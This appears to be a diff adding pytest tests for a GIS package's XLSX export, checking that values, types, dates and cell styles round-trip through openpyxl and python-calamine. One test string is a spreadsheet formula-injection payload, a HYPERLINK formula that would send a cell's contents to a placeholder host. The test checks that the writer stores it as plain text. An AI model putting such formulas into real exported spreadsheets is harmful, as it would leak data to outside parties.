@@ -1,0 +1,65 @@
+"""The XLSX rows planmap renders itself (planmap_gis._xlsx.SheetRows) read back as written, by
+openpyxl and by python-calamine (the reader planmap uses), with nothing a formula."""
+
+from __future__ import annotations
+
+import datetime as dt
+import logging
+
+import numpy as np
+import pandas as pd
+from openpyxl import Workbook, load_workbook
+from openpyxl.styles import Font
+from python_calamine import CalamineWorkbook
+
+from planmap_gis._output import save_book, write_excel
+from planmap_gis._xlsx import SheetRows
+
+TEXTS = ['=HYPERLINK("http://x.example/?"&A1,"คลิก")', "a & b < c > d", "  เว้นหน้าหลัง  ", "บรรทัด\r\nสอง",
+         "\tแท็บ", "ควบคุม\x07\x1f", "", "+1+1", "ข้อความ\ufffeแปลก"]
+
+
+def test_a_table_reads_back_value_for_value_and_type_for_type(tmp_path, caplog):
+    frame = pd.DataFrame({
+        "text": TEXTS,
+        "int": np.arange(len(TEXTS), dtype="int64") * 1_000_003,
+        "float": [1.5, np.nan, np.inf, -np.inf, 0.1 + 0.2, -0.0, 1e-300, 12345678.9, 2.0],
+        "nullable": pd.array([1, None, 3, None, 5, 6, 7, 8, 9], dtype="Int64"),
+        "flag": [True, False] * 4 + [True],
+        "date": [dt.date(2025, 10, 1)] * len(TEXTS),
+    })
+    with caplog.at_level(logging.WARNING):
+        write_excel({"t": frame}, tmp_path / "t.xlsx")
+    sheet = load_workbook(tmp_path / "t.xlsx")["t"]
+    rows = list(sheet.iter_rows(min_row=2, values_only=True))
+    assert [c.value for c in sheet[1]] == list(frame.columns)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+    assert [r[0] for r in rows] == [t.replace("\x07", "").replace("\x1f", "").replace("\ufffe", "") or None
+                                    for t in TEXTS]
+    assert [r[1] for r in rows] == frame["int"].tolist()
+    assert rows[0][2] == 1.5 and rows[1][2] is None and rows[2][2] == "inf" and rows[3][2] == "-inf"
+    assert rows[4][2] == float("%.16g" % (0.1 + 0.2)) and rows[6][2] == 1e-300
+    assert [r[3] for r in rows][:4] == [1, None, 3, None]
+    assert [r[4] for r in rows] == frame["flag"].tolist()
+    assert rows[0][5] == dt.datetime(2025, 10, 1) and sheet["F2"].number_format == "yyyy-mm-dd"
+    assert "control characters removed" in caplog.text
+    calamine = CalamineWorkbook.from_path(str(tmp_path / "t.xlsx")).get_sheet_by_name("t").to_python()
+    assert [r[0] for r in calamine[1:]] == [r[0] or "" for r in rows]
+
+
+def test_sparse_styled_rows_keep_their_columns_heights_and_styles(tmp_path):
+    book = Workbook(write_only=True)
+    sheet = book.create_sheet("s")
+    sheet.row_dimensions[2].height = 40
+    rows = SheetRows(sheet, [])
+    bold = rows.style(("bold",), lambda: {"font": Font(bold=True), "number_format": "#,##0"})
+    rows.append([rows.tail("หัว", bold), None, rows.tail(None, bold)])
+    rows.add([(0, rows.tail(1, bold)), (700, rows.tail("ไกล"))])
+    sheet.freeze_panes = "B2"  # set after the rows: openpyxl writes the sheet when it is closed
+    save_book(book, tmp_path / "s.xlsx")  # closes the rows left open
+    back = load_workbook(tmp_path / "s.xlsx")["s"]
+    assert back["A1"].value == "หัว" and back["A1"].font.b and back["C1"].font.b and back["C1"].value is None
+    assert back["B1"].value is None and not back["B1"].has_style
+    assert back["A2"].value == 1 and back["A2"].number_format == "#,##0"
+    assert back.cell(2, 701).value == "ไกล"
+    assert back.row_dimensions[2].height == 40 and back.freeze_panes == "B2"
